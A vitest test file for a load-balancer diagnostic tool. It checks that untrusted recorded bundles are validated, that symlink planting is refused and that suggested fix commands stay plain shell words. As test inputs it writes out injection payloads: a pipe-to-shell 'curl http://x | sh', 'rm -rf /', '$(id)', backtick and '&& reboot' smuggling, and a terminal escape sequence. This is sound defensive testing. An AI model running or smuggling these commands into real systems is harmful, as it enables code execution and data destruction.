// A bundle is someone else's file: its manifest is checked by a schema, its topology validated
// as an inventory, its files read bounded; a recording never writes through a planted link
// and keeps its files private.
import { chmodSync, chownSync, cpSync, existsSync, lstatSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { spawnSync } from 'node:child_process';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { replayCommand, diagnoseCommand } from '../../src/commands/diagnose.js';
import type { CommandIO } from '../../src/commands/io.js';
import { guardFixes, isPlainShellCommand, WITHHELD_FIX } from '../../src/engine/fix-guard.js';
import type { ResultDocument } from '../../src/model/result.js';
import { BundleDirError, prepareBundleDir, readBounded, writeExclusive } from '../../src/transport/bundle-files.js';
import { readBundle, writeBundle } from '../../src/transport/bundle.js';
import { RecordingTransport } from '../../src/transport/record.js';
import { FakeTransport } from './fake-transport.js';

const root = join(import.meta.dirname, '../..');
const fixtureBundle = join(root, 'fixtures/bundles/realserver.reply-route');
const dirs: string[] = [];
afterEach(() => dirs.splice(0).forEach((d) => rmSync(d, { recursive: true, force: true })));

function temp(): string {
  const d = mkdtempSync(join(tmpdir(), 'lvsd-untrusted-'));
  dirs.push(d);
  return d;
}

function io(): CommandIO & { outText: () => string; errText: () => string } {
  let out = '';
  let err = '';
  return { out: (t) => void (out += t), err: (t) => void (err += t), readStdin: async () => new Uint8Array(), isTTY: false, env: {}, outText: () => out, errText: () => err };
}

/** A copy of a real recorded bundle with its manifest edited. */
function tamperedBundle(edit: (manifest: Record<string, any>) => void): string {
  const dir = join(temp(), 'bundle');
  cpSync(fixtureBundle, dir, { recursive: true });
  const manifest = JSON.parse(readFileSync(join(dir, 'manifest.json'), 'utf8'));
  edit(manifest);
  writeFileSync(join(dir, 'manifest.json'), JSON.stringify(manifest));
  return dir;
}

async function replay(dir: string, ...flags: string[]): Promise<{ code: number; out: string; err: string }> {
  const t = io();
  const code = await replayCommand([dir, ...flags], t);
  return { code, out: t.outText(), err: t.errText() };
}

describe('replay: the bundle is validated before it is believed', () => {
  it('a director address carrying a shell command is refused (exit 65 naming the field), never printed in a fix', async () => {
    const dir = tamperedBundle((m) => (m.topology.director.dip = '198.51.100.1; curl http://x | sh #'));
    const r = await replay(dir, '--json');
    expect(r.code).toBe(65);
    expect(r.err).toMatch(/manifest\.json: topology\.director\.dip: '198\.51\.100\.1; curl http:\/\/x \| sh #' is not an IPv4 or IPv6 address/);
    expect(r.out).toBe('');
  });

  it('an interface name with a shell command in it is refused the same way', async () => {
    const dir = tamperedBundle((m) => (m.topology.director.int = 'eth1;reboot'));
    const r = await replay(dir);
    expect(r.code).toBe(65);
    expect(r.err).toMatch(/topology\.director\.int: 'eth1;reboot' is not an interface name/);
  });

  it('argv of the wrong type is a schema error naming the entry, not a TypeError', async () => {
    const dir = tamperedBundle((m) => (m.entries[3].argv = 'ip -o addr'));
    const r = await replay(dir);
    expect(r.code).toBe(65);
    expect(r.err).toMatch(/manifest\.json: entries\[3\]\.argv must be array/);
    expect(r.err).not.toMatch(/TypeError/);
  });

  it('a topology without realservers replays (director-only), it does not crash', async () => {
    const dir = tamperedBundle((m) => delete m.topology.realservers);
    const r = await replay(dir, '--json');
    expect([0, 1, 2, 3]).toContain(r.code);
    expect(JSON.parse(r.out).schemaVersion).toBe(1);
  });

  it('200,000 entries are refused by the schema before any file is opened', async () => {
    const dir = join(temp(), 'huge');
    mkdirSync(dir);
    const entry = { ordinal: 0, host: 'rs1', argv: ['true'], exitCode: 0, durationMs: 0, stdoutFile: 'missing.bin', stderr: '' };
    writeFileSync(join(dir, 'manifest.json'), JSON.stringify({ tool: 'lvs-doctor', schemaVersion: 1, topology: null, options: {}, entries: Array(200_000).fill(entry) }));
    const r = await replay(dir);
    expect(r.code).toBe(65);
    expect(r.err).toMatch(/entries must NOT have more than 50000 items/);
  });

  it('a recorded output past the output cap fails that probe, naming the cap; the rest of the diagnosis runs', async () => {
    const dir = tamperedBundle(() => undefined);
    const manifest = JSON.parse(readFileSync(join(dir, 'manifest.json'), 'utf8'));
    const ipAddr = manifest.entries.find((e: { host: string; argv: string[] }) => e.host === 'rs1' && e.argv.join(' ') === 'ip -o addr');
    writeFileSync(join(dir, ipAddr.stdoutFile), 'x\n'.repeat(300_000));
    const r = await replay(dir, '--json');
    const doc = JSON.parse(r.out) as ResultDocument;
    expect(doc.checks.length).toBeGreaterThan(10);
    expect(r.out).toMatch(/stdout passed the output cap \(line count of 16 MiB, 200000 lines, 1 MiB a line\)/);
    // The diagnosis itself still comes from the rest of the bundle.
    expect(doc.diagnoses.map((d) => d.id)).toContain('realserver.reply-route');
  });
});

describe('error messages', () => {
  it('show a bundle\'s control characters escaped on stderr (the real binary)', () => {
    const dir = tamperedBundle((m) => (m.topology.director.name = 'lb\u001b]0;pwned\u0007'));
    const r = spawnSync(process.execPath, [join(root, 'bin/lvs-doctor.js'), 'replay', dir], { encoding: 'utf8', timeout: 60_000 });
    expect(r.status).toBe(65);
    expect(r.stderr).toContain("topology.director.name: 'lb\\x1b]0;pwned\\x07' is not a host name");
    expect(r.stderr).not.toContain('\u001b');
  });
});

describe('fix commands offered for copying are plain shell words', () => {
  it('every fix the recorded faults produce passes as it is', () => {
    for (const name of readdirSync(join(root, 'fixtures/bundles'))) {
      const file = join(root, 'fixtures/bundles', name, 'expected.json');
      if (!existsSync(file)) continue;
      const doc = JSON.parse(readFileSync(file, 'utf8')) as ResultDocument;
      for (const c of doc.diagnoses.flatMap((d) => d.fixes.flatMap((f) => f.commands))) expect(isPlainShellCommand(c), c).toBe(true);
    }
  });
  it('a command a value could break out of is withheld; quoted text and comments are words', () => {
    for (const bad of ['ip route replace default via 198.51.100.1; curl http://x | sh #', 'sysctl -w net.ipv4.conf.$(id).rp_filter=2', 'ip route add 10.0.0.1/32 dev `reboot`', "ip route get 'unterminated", '# remove: -A INPUT\nrm -rf /', 'ip addr add 10.0.0.1/24 dev eth0 && reboot']) {
      expect(isPlainShellCommand(bad), bad).toBe(false);
    }
    expect(isPlainShellCommand("ss -ltn 'sport = :80'")).toBe(true);
    expect(isPlainShellCommand('# or, to keep the default route (5.4): ip rule add from 10.1.1.11 table lvs; ip route add default via 10.1.1.1 table lvs')).toBe(true);
    expect(guardFixes([{ host: 'rs1', why: 'w', commands: ['ip route flush cache', 'ip route replace default via 1.2.3.4;id'] }])[0].commands).toEqual(['ip route flush cache', WITHHELD_FIX]);
  });
});

describe('--record DIR', () => {
  it('creates a 0700 directory and 0600 files whatever the umask', async () => {
    const dir = join(temp(), 'rec');
    const old = process.umask(0o022);
    try {
      const rec = new RecordingTransport(new FakeTransport(() => ({ stdoutText: 'ok' })), { dir });
      await rec.run('rs1', ['ip', '-o', 'addr'], { timeoutMs: 1000 });
      await rec.close();
    } finally {
      process.umask(old);
    }
    expect(statSync(dir).mode & 0o777).toBe(0o700);
    for (const f of readdirSync(dir)) expect(statSync(join(dir, f)).mode & 0o777, f).toBe(0o600);
    expect((await readBundle(dir)).manifest.entries).toHaveLength(1);
  });

  it('refuses a directory with a planted manifest.json link, and leaves the link target alone', async () => {
    const base = temp();
    const target = join(base, 'precious');
    writeFileSync(target, 'keep me\n');
    const dir = join(base, 'rec');
    mkdirSync(dir);
    symlinkSync(target, join(dir, 'manifest.json'));
    await expect(prepareBundleDir(dir)).rejects.toThrow(/is not empty/);
    const inventory = join(base, 'lvs.yaml');
    writeFileSync(inventory, 'service: { vip: 127.0.0.10, vport: 80 }\ndirector: { access: none }\nclient: { access: none, cip: 127.0.0.2 }\n');
    const t = io();
    const code = await diagnoseCommand(['--inventory', inventory, '--record', dir, '--json'], t);
    expect(code).toBe(64);
    expect(t.errText()).toMatch(/--record: .* is not empty/);
    expect(readFileSync(target, 'utf8')).toBe('keep me\n');
  });

  it('never writes through a link, even one planted after the check', async () => {
    const base = temp();
    const target = join(base, 'precious');
    writeFileSync(target, 'keep me\n');
    symlinkSync(target, join(base, 'file.bin'));
    await expect(writeExclusive(join(base, 'file.bin'), 'x')).rejects.toThrow(/EEXIST|ELOOP/);
    expect(readFileSync(target, 'utf8')).toBe('keep me\n');
    expect(lstatSync(join(base, 'file.bin')).isSymbolicLink()).toBe(true);
  });

  it('refuses a directory that is a link, or that belongs to someone else', async () => {
    const base = temp();
    const real = join(base, 'real');
    mkdirSync(real);
    symlinkSync(real, join(base, 'link'));
    await expect(prepareBundleDir(join(base, 'link'))).rejects.toThrow(BundleDirError);
    if (process.getuid?.() === 0) {
      const foreign = join(base, 'foreign');
      mkdirSync(foreign);
      chownSync(foreign, 65534, 65534);
      await expect(prepareBundleDir(foreign)).rejects.toThrow(/belongs to uid 65534/);
    }
  });

  it('an empty directory of ours is narrowed to 0700', async () => {
    const dir = join(temp(), 'mine');
    mkdirSync(dir);
    chmodSync(dir, 0o755);
    await prepareBundleDir(dir);
    expect(statSync(dir).mode & 0o777).toBe(0o700);
    await writeBundle(dir, { manifest: { tool: 'lvs-doctor', toolVersion: 'x', schemaVersion: 1, createdAt: 'now', topology: null, options: {}, entries: [] }, files: new Map() });
    expect(readdirSync(dir)).toEqual(['manifest.json']);
  });
});

describe('readBounded', () => {
  it('reads a file up to its bound, refuses a larger one and a link', async () => {
    const base = temp();
    writeFileSync(join(base, 'a'), 'abcdef');
    expect(Buffer.from((await readBounded(join(base, 'a'), 6))!).toString()).toBe('abcdef');
    expect(await readBounded(join(base, 'a'), 5)).toBeNull();
    symlinkSync(join(base, 'a'), join(base, 'l'));
    await expect(readBounded(join(base, 'l'), 100)).rejects.toThrow(/ELOOP/);
  });
});
